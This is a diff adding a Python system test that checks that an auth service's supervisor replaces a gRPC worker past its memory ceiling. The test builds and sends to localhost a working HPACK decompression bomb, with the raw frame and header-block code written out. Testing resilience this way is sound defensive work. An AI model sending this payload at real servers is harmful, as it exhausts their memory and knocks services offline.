@@ -1,0 +1,109 @@
+"""AUTH_WORKER_MAX_MEMORY: a worker whose memory grows past it is replaced. What grows it
+here is the HPACK decompression bomb an outside review found in gRPC's C core (a 4,000-byte
+header put in the HPACK table and referenced 16,000 times a frame: the worker keeps memory
+for each frame, ~150 MB a second from one connection, and gives none back; docs/security.md,
+"Known gaps in gRPC's C core"). No channel argument bounds it; the supervisor does."""
+
+from __future__ import annotations
+
+import contextlib
+import socket
+import struct
+import threading
+import time
+from pathlib import Path
+
+import grpc
+import hpack
+import psutil
+import pytest
+from authsvc_client.gen.auth.v1 import auth_pb2, auth_pb2_grpc
+
+from service.loadtest.server_process import ServeCommand, serving
+from tests.test_cli import _server_env
+
+pytestmark = [pytest.mark.system, pytest.mark.timeout(180)]
+
+CEILING_MIB = 300
+
+
+def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
+    header = struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream)
+    return header + payload
+
+
+def _bomb(port: int, seconds: float, stop: threading.Event) -> int:
+    """One connection sending the bomb, ~1,000 frames a second, until `seconds` pass, the
+    server closes the connection or `stop`; the frames sent."""
+    head = hpack.Encoder().encode(
+        [
+            (":method", "POST"),
+            (":scheme", "http"),
+            (":path", "/auth.v1.AuthService/GetJwks"),
+            (":authority", "x"),
+            ("content-type", "application/grpc"),
+            ("te", "trailers"),
+        ]
+    )
+    block = (head + hpack.Encoder().encode([("x-big", "a" * 4000)]) + bytes([0x80 | 62]) * 16000)[
+        :16384
+    ]
+    sent, stream = 0, 1
+    with socket.create_connection(("127.0.0.1", port)) as sock:
+        sock.settimeout(5)
+        sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0, b""))
+        started = time.monotonic()
+        while time.monotonic() - started < seconds and not stop.is_set():
+            if sent > 1000 * (time.monotonic() - started):
+                time.sleep(0.002)
+                continue
+            stream += 2
+            try:
+                sock.sendall(_frame(1, 0x4 | 0x1, stream, block))  # END_HEADERS | END_STREAM
+            except OSError:
+                break  # the server closed it: the worker went
+            sent += 1
+    return sent
+
+
+def _workers(supervisor: int) -> dict[int, int]:
+    """pid -> resident MiB of each worker of `supervisor`."""
+    found = {}
+    for child in psutil.Process(supervisor).children():
+        with contextlib.suppress(psutil.Error):  # gone meanwhile
+            found[child.pid] = child.memory_info().rss // (1024 * 1024)
+    return found
+
+
+def test_a_worker_past_its_memory_ceiling_is_replaced(database_url: str, tmp_path: Path) -> None:
+    env = _server_env(database_url, tmp_path, AUTH_WORKER_MAX_MEMORY=str(CEILING_MIB))
+    log = tmp_path / "serve.log"
+    with serving(ServeCommand(env, workers=2, stderr=log), at_end="kill") as server:
+        before = _workers(server.process.pid)
+        assert len(before) == 2 and max(before.values()) < CEILING_MIB
+        stop = threading.Event()
+        peak = 0
+        bombing = threading.Thread(target=_bomb, args=(server.port, 20, stop), daemon=True)
+        bombing.start()
+        deadline = time.monotonic() + 30
+        while True:
+            workers = _workers(server.process.pid)
+            peak = max([peak, *workers.values()])
+            replaced = set(workers) - set(before)
+            if replaced and not bombing.is_alive():
+                break
+            assert time.monotonic() < deadline, f"no worker was replaced: {workers}"
+            time.sleep(0.2)
+        stop.set()
+        bombing.join(10)
+        # Bounded: killed at the latest a check after passing 1.5 x the ceiling.
+        assert CEILING_MIB < peak < 4 * CEILING_MIB
+        assert "over AUTH_WORKER_MAX_MEMORY=300: replacing it" in log.read_text()
+        time.sleep(2)
+        assert all(mib < CEILING_MIB for mib in _workers(server.process.pid).values())
+        assert len(_workers(server.process.pid)) == 2
+        with grpc.insecure_channel(f"127.0.0.1:{server.port}") as channel:
+            answer = auth_pb2_grpc.AuthServiceStub(channel).GetJwks(
+                auth_pb2.GetJwksRequest(), timeout=10
+            )
+        assert '"keys"' in answer.jwks_json
